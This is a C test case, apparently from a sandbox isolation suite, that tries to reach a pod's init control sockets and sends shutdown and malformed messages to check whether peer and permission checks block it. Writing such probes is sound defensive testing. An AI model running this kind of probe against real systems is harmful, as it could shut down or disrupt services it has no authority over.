// tries: command a pod's init by the socket that serves supervisor and engine: shut down, seed, garbage
// wall: the socket's peer check, the owner's permissions
// control: both
// needs: pods
#include "attack.h"
ATTACK
{
    const char *const sockets[] = {"init_socket", "neighbour_init_socket"};
    static const struct { const char *bytes; int size; } messages[] = {{"\0\xa4Keep", 6}, {"\0\xa8Shutdown", 10}, {"\0\xff\xff\xff\xff\xff", 6}};
    for (int s = 0; s < 2; s++) {
        struct sockaddr_un to = {.sun_family = AF_UNIX};
        const char *path = text(sockets[s]);
        memcpy(to.sun_path, path, length(path));
        for (int i = 0; i < 3; i++) {
            char answer[300];
            long fd = sc(__NR_socket, AF_UNIX, SOCK_SEQPACKET, 0), wait[2] = {0, 300000};
            if (fd < 0) cannot("socket", fd);
            sc(__NR_setsockopt, fd, SOL_SOCKET, SO_RCVTIMEO, wait, sizeof wait);
            if (!attempt("connect", sc(__NR_connect, fd, &to, sizeof to))) continue;
            sc(__NR_sendto, fd, messages[i].bytes, messages[i].size, 0x4000, 0, 0);
            if (sc(__NR_read, fd, answer, sizeof answer) > 0) gain("an answer", 0);
            sc(__NR_close, fd);
        }
    }
}
